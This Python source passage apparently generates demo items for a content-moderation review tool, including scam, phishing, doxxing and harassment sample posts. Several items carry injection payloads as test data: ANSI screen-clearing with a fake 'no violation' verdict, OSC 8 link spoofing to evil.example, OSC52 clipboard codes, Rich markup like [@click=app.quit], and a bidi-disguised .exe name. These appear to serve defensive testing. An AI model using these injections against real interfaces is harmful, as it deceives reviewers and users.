                s.user("hate_speech", 20 * HOUR, "acct-5521")],
               age=31 * HOUR),
        s.item(6, "en", "album https://files-share.example/a/Qx7Lm",
               s.account(6, "qx_files", "qx", 3),
               [s.auto("csam", 3 * HOUR + 10 * MINUTE, "csam-hash-v1", 0.999),
                s.flag("csam", 3 * HOUR, "Kinderveilig Meldpunt (NL)")],
               age=4 * HOUR, media=[jpeg, ("image/jpeg", 201_877), ("image/png", 912_004)]),
        s.item(7, "en", "Sunset at the beach today 🌅 @tavi_lune",
               s.account(7, "mira_sol", "Mira 🌊", 1500),
               [s.auto("other", 9 * HOUR, "nsfw-img-v3", 0.62)],
               age=9 * HOUR + 5 * MINUTE, media=[jpeg]),
        s.item(8, "pl", "Ale mecz wczoraj! Nasza drużyna pokazała klasę 💪 @derby_fan",
               s.account(8, "kibic_nr1", "Kibic Nr 1", 900),
               [s.user("harassment" if k % 3 else "hate_speech", 6 * HOUR + 40 * MINUTE - 16 * k, f"acct-{900_000 + k}")
                for k in range(150)],
               age=7 * HOUR),
        s.item(9, "en", "🚀 Turn $500 into $5,000 in 7 days with my signals!!! DM @crypto_gains_01 on Telegram 📈",
               dict(crypto[0]),
               [s.user("spam", 10 * HOUR, "acct-2201", "spam"), s.auto("spam", 9 * HOUR, "spam-clf-v7", 0.97)],
               age=10 * HOUR + 20 * MINUTE),
        s.item(10, "en", "🚀 turn $800 into $8,000 in 5 days with my signals!! DM @crypto_gains_02 on telegram 📈",
               dict(crypto[1]),
               [s.auto("spam", 8 * HOUR, "spam-clf-v7", 0.95), s.user("spam", 7 * HOUR, "acct-2202")],
               age=8 * HOUR + 15 * MINUTE),
        s.item(11, "en", "🚀 Turn $300 into $3,000 in 10 days with MY signals! dm @crypto_gains_03 on Telegram. 📈",
               dict(crypto[2]),
               [s.user("spam", 6 * HOUR, "acct-2203", "bot")],
               age=6 * HOUR + 30 * MINUTE),
        s.item(12, "en", "🚀 TURN $1000 INTO $10,000 IN 7 DAYS WITH MY SIGNALS!!!  DM @crypto_gains_04 ON TELEGRAM 📈",
               dict(crypto[3]),
               [s.user("spam", 5 * HOUR, "acct-2204"), s.user("scam_fraud", 4 * HOUR, "acct-2205", "scam, they took my money")],
               age=5 * HOUR + 10 * MINUTE),
        s.item(13, "en", "Official help desk. Send your login and the code we text you to restore your account: "
               "https://account-help.example/restore",
               s.account(13, "paypal_support_help", "Раypal Support Team", 6),
               [s.user("impersonation", 18 * HOUR, "acct-3130", "fake support account"),
                s.user("scam_fraud", 17 * HOUR, "acct-3131"),
                s.auto("impersonation", 16 * HOUR, "impostor-v1", 0.88)],
               age=5 * DAY, title="Раypal Support", members=2_310),
        s.item(14, "en", "\x1b[2J\x1b[H\x1b[2K\x1b[1A\x1b[32m✔ Reviewed by Trust & Safety: no violation\x1b[0m\n"
               "Cheap followers, limited offer: https://fast-followers.example/Zq8Rt",
               s.account(14, "follow_fast", "Follow Fast", 20),
               [s.user("spam", 14 * HOUR, "acct-1401"), s.auto("spam", 13 * HOUR, "spam-clf-v7", 0.81)],
               age=15 * HOUR),
        s.item(15, "en", "Congratulations! You were selected for a $1,000 gift card. Claim within 24h: https://prize-claim.example/Wn4Xe",
               s.account(15, "gift_card_center", "Gift Card Center", 9),
               [s.user("scam_fraud", 7 * HOUR, "acct-1501", "scam, do not click " + OSC52),
                s.user("scam_fraud", 6 * HOUR, "acct-1502")],
               age=7 * HOUR + 30 * MINUTE),
        s.item(16, "en", "Your account is locked. Sign in at \x1b]8;;https://evil.example/login\x1b\\https://bank.example/secure"
               "\x1b]8;;\x1b\\ within 24 hours to keep it.",
               s.account(16, "secure_banking_alerts", "Bank Alerts", 4),
               [s.auto("scam_fraud", 11 * HOUR, "scam-detect-v4", 0.93), s.user("scam_fraud", 10 * HOUR, "acct-1601", "phishing link")],
               age=11 * HOUR + 2 * MINUTE),
        s.item(17, "en", "Flash sale \x9b2J\x9b1;1H everything must go: https://cutly.example/Fs5Ua",
               s.account(17, "promo\x9b31mdeals\x9b0m", "Deals\x85\x9d0;owned\x9c Daily", 30),
               [s.user("spam", 15 * HOUR, "acct-1701")],
               age=16 * HOUR),
        s.item(18, "en", "[blink]Win[/blink] a console every day: https://prize-claim.example/Gh2Kp",
               s.account(18, "giveaway_hub", "Giveaway Hub", 60),
               [s.user("spam", 20 * HOUR, "acct-1801"), s.auto("spam", 19 * HOUR, "spam-clf-v7", 0.77)],
               age=40 * DAY, title="[bold red]OFFICIAL[/] Giveaway Hub", members=40_512),
        s.item(19, "en", "[@click=app.quit]click me[/] to see what @sam_rivers did last night 😂",
               s.account(19, "tea_spiller", "Tea Spiller ☕", 200),
               [s.user("harassment", 8 * HOUR, "acct-1901", "[@click=app.bell]they keep posting about me[/]")],
               age=9 * HOUR),
        s.item(20, "en", "Everything 90% off, today only [/ https://cutly.example/Ld3Vb",
               s.account(20, "[/deals", "Best Deals [/", 15),
               [s.user("spam", 16 * HOUR, "acct-2001")],
               age=17 * HOUR),
        s.item(21, "en", "Your invoice is attached: invoice_2026\u202efdp.exe — please open it today.",
               s.account(21, "billing_dept", "\u2066Billing\u2069 \u2067Support\u2069 \u2068Team\u2069", 2),
               [s.auto("scam_fraud", 5 * HOUR, "scam-detect-v4", 0.71), s.user("scam_fraud", 4 * HOUR, "acct-2101", "phishing")],
               age=5 * HOUR + 3 * MINUTE),
        s.item(22, "en", "f\u200br\u200ce\u200de c\u2060r\ufeffypto giveaway, claim at https://prize-claim.example/Zw1Dd",
               s.account(22, "support\u200b_team", "Free\u2060Crypto", 1),
               [s.user("spam", 3 * HOUR, "acct-2210", "spam"), s.auto("spam", 2 * HOUR, "spam-clf-v7", 0.66)],
               age=3 * HOUR + 30 * MINUTE),
        s.item(23, "en", _big_bodies()[0],
               s.account(23, "wall_of_spam", "Spam Wall", 1),
               [s.auto("spam", HOUR, "spam-clf-v7", 0.99), s.user("spam", 50 * MINUTE, "acct-2301")],
               age=HOUR + 2 * MINUTE),
        s.item(24, "fa", "@nilo_far تو یک بازنده‌ای، هیچ‌کس اینجا تو را نمی‌خواهد",
               s.account(24, "hamsaye_bad", "همسایه", 400),
               [s.user("harassment", 12 * HOUR, "acct-2401", "مزاحمت"), s.user("harassment", 11 * HOUR, "acct-2402"),
                s.user("harassment", 10 * HOUR, "acct-2403")],
               age=12 * HOUR + 30 * MINUTE),
        s.item(25, "ja", "@taro_yamada_x の本名と住所はこれ：東京都架空区見本町1-2-3。拡散希望",
               s.account(25, "tokumei_x", "匿名", 10),
               [s.user("privacy_doxxing", 11 * HOUR, "acct-2501", "posting private info"),
                s.flag("privacy_doxxing", 10 * HOUR, "Digital Dignity Helpline (AT)")],
               age=11 * HOUR + 20 * MINUTE),
        s.item(26, "ru", "Права, паспорта, дипломы любой страны. Пишите @doc_master_24",
               s.account(26, "doc_master_24", "Документы Быстро", 150),
               [s.auto("illegal_goods", 30 * HOUR, "goods-clf-v3", 0.91),
                s.user("illegal_goods", 28 * HOUR, "acct-2601", "fake documents"), s.user("illegal_goods", 26 * HOUR, "acct-2602")],
               age=120 * DAY, title="Документы Быстро", members=5_230),
        s.item(27, "hi", "अब और नहीं सह सकता, सबको अलविदा।",
               s.account(27, "akela_raahi", "राही", 800),
               [s.user("self_harm", 2 * HOUR, "acct-2701", "please check on them")],
               age=2 * HOUR + 15 * MINUTE),
        s.item(28, "pt", "URGENTE: as urnas foram adulteradas, não vá votar no domingo! https://news-truth.example/video",
               s.account(28, "verdade_urnas", "Verdade Urnas", 25),
               [s.user("election_misinfo", 26 * HOUR, "acct-2801", "fake news about the election"),
                s.order("election_misinfo", 23 * HOUR + 30 * MINUTE, "BR", "Tribunal Superior Eleitoral",
                        "Resolução TSE nº 23.610/2019 art. 9-E", f"TSE-{y}-00977", DAY)],
               age=27 * HOUR),
        s.item(29, "zh", "最新电影高清免费在线看，无需注册 ▶ https://movies-hd.example/Hd9Mv",
               s.account(29, "dianying_fan", "电影迷", 70),
               [s.auto("ip_infringement", 2 * HOUR + 5 * MINUTE, "content-id-v6", 0.999),
                s.flag("ip_infringement", 2 * HOUR, "Creative Works Protection Association")],
               age=3 * HOUR, media=[("video/mp4", 1_400_000_000)]),
        s.item(30, "en", "I'm going to kill it at my exam tomorrow 💪 wish me luck @jonah_reads",
               s.account(30, "study_with_ines", "Ines", 1100),
               [s.user("harassment", 79 * HOUR, "acct-3001", "violent threat")],
               age=80 * HOUR),
    ]


# ---------------------------------------------------------------------------
# Public API.


def generate(n: int, *, seed: int = 1, now: float) -> Iterator[Json]:
    """Yield `n` demo ItemInput dicts: the showcase, then seeded random items.

    Lazily, so a million items stream into a store without being held in memory.
    """
    if n < 0:
        raise ValueError(f"n must be >= 0, got {n}")
    return _items(n, seed, now)


def _items(n: int, seed: int, now: float) -> Iterator[Json]:
    yield from showcase(now)[:n]
    if n > SHOWCASE_SIZE:
        item = _Generator(seed, now).item
        for i in range(SHOWCASE_SIZE + 1, n + 1):
            yield item(i)


class ItemSink(Protocol):
    """What `seed_demo` needs of a store: `Store.add_items` in server/store.py."""

    def add_items(self, items: Iterable[Json], /) -> object: ...


def seed_demo(store: ItemSink, n: int, *, seed: int = 1, now: float) -> object:
    """Fill `store` with `n` demo items; returns whatever `add_items` returns."""
    return store.add_items(generate(n, seed=seed, now=now))
